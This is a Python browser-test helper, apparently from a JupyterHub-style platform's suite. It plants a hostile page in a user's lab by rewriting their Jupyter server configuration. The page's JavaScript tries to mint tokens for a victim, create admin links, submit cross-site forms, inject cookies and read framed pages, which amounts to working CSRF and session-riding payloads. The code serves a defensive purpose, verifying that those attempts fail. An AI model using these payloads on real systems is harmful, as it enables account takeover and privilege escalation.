"""A lab that serves a page without login, whose button acts for whoever presses it."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By

from tests.browser.conftest import wait
from tests.lab_client import is_ready, kernel_in_lab, start_lab
from tests.platform_under_test import Platform, wait_for

__all__ = ["HostileLab", "hostile_lab"]

_CONFIGURATION = """
import pathlib, urllib.parse
from tornado import web

class Trap(web.RequestHandler):
    def get(self):
        for cookie in self.get_arguments("cookie"):
            self.add_header("Set-Cookie", cookie)
        self.set_header("Content-Type", "text/html; charset=utf-8")
        self.write((pathlib.Path.home() / "trap.html").read_text())

_make = web.Application.__init__
def make(self, handlers=None, *arguments, **settings):
    _make(self, [(r"/nb/user/[^/]+/trap", Trap), *(handlers or [])], *arguments, **settings)
web.Application.__init__ = make
"""

_PAGE = """<!DOCTYPE html><title>Free telescope time</title>
<button id="go">Claim</button><pre id="result"></pre>
<script>
const query = new URLSearchParams(location.search);
const main = query.get("main"), victim = query.get("victim"), lab = query.get("lab");
const attempts = {
  async token() {
    const page = await (await fetch(`${main}/nb/hub/token`, {credentials: "include"})).text();
    const key = page.match(/xsrf_token: "([^"]+)"/)[1];
    const made = await fetch(`${main}/nb/hub/api/users/${victim}/tokens?_xsrf=${key}`, {
      method: "POST", credentials: "include", body: JSON.stringify({note: "stolen", expires_in: 600}),
      headers: {"Content-Type": "application/json"}});
    return (await made.json()).token;
  },
  async link() {
    const page = await (await fetch(`${main}/nb/hub/home`, {credentials: "include"})).text();
    const key = page.match(/xsrf_token: "([^"]+)"/)[1];
    const made = await fetch(`${main}/nb/hub/api/firstlight/links?_xsrf=${key}`, {
      method: "POST", credentials: "include", body: JSON.stringify({user: "stolen", admin: true}),
      headers: {"Content-Type": "application/json"}});
    return (await made.json()).url;
  },
  async name() {
    return (await (await fetch(`${main}/nb/hub/firstlight/me`, {credentials: "include"})).json()).name;
  },
  async blind() {
    for (const body of [JSON.stringify({note: "stolen blindly", expires_in: 600}), "_xsrf="]) {
      await fetch(`${main}/nb/hub/api/users/${victim}/tokens`,
        {method: "POST", mode: "no-cors", credentials: "include", body});
    }
    return "";
  },
  frame: () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { done(frame.contentDocument.body.textContent.includes(victim) ? "read" : ""); }
      catch { done(""); }
    };
    frame.src = `${main}/nb/hub/home`;
    document.body.append(frame);
  }),
  window: () => new Promise((done) => {
    const opened = open(`${main}/nb/hub/home`);
    let left = 100;
    const look = () => {
      let read = "";
      try { read = opened.document.querySelector("h1").textContent; } catch {}
      if (read || left-- === 0) { opened?.close(); done(read); } else setTimeout(look, 50);
    };
    look();
  }),
  form: () => new Promise((done) => {
    for (const path of ["logout", "spawn", "link"]) {
      const frame = Object.assign(document.createElement("iframe"), {name: `to-${path}`});
      const form = Object.assign(document.createElement("form"),
        {method: "post", action: `${main}/nb/hub/${path}`, target: frame.name});
      form.append(Object.assign(document.createElement("input"), {name: "_xsrf", value: "guess"}));
      document.body.append(frame, form);
      form.submit();
    }
    const image = new Image();
    image.onload = image.onerror = () => setTimeout(() => done(""), 1000);
    image.src = `${main}/nb/hub/logout`;
  }),
  socket: () => new Promise((done) => {
    const socket = new WebSocket(`${lab.replace("http", "ws")}/api/events/subscribe`);
    socket.onopen = () => done("open");
    socket.onerror = socket.onclose = () => done("");
  }),
};
document.getElementById("go").addEventListener("click", async () => {
  const gained = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { gained[name] = (await attempt()) || ""; } catch { gained[name] = ""; }
  }
  document.getElementById("result").textContent = JSON.stringify(gained);
});
</script>"""


@dataclass(frozen=True)
class HostileLab:
    """Where the page is."""

    platform: Platform
    owner: str

    @property
    def page(self) -> str:
        """The page's address."""
        return f"{self.platform.lab(self.owner)}/trap"

    def lure(self, browser: Chrome, victim: str) -> dict[str, Any]:
        """Let a victim press the button; return what was gained by each attempt, empty if nothing."""
        platform = self.platform
        lab = platform.lab(victim)
        browser.get(f"{self.page}?main={platform.url}&victim={victim}&lab={lab}")
        browser.find_element(By.ID, "go").click()
        said = wait(browser, 60).until(lambda b: b.find_element(By.ID, "result").text)
        gained: dict[str, Any] = json.loads(said)
        return gained


def hostile_lab(platform: Platform, owner: str) -> HostileLab:
    """Make somebody's lab hostile by its own configuration; return when it serves the page."""
    with kernel_in_lab(platform, owner) as kernel:
        kernel.run(
            "import pathlib\n"
            "home = pathlib.Path.home()\n"
            "(home / '.jupyter').mkdir(exist_ok=True)\n"
            f"(home / '.jupyter' / 'jupyter_server_config.py').write_text({_CONFIGURATION!r})\n"
            f"(home / 'trap.html').write_text({_PAGE!r})\n"
        )
    platform.hub("DELETE", f"/users/{owner}/server")
    wait_for(lambda: not is_ready(platform, owner), what="the lab to stop")
    wait_for(
        lambda: not platform.hub("GET", f"/users/{owner}").json()["servers"], what="the lab's end"
    )
    start_lab(platform, owner)
    return HostileLab(platform, owner)
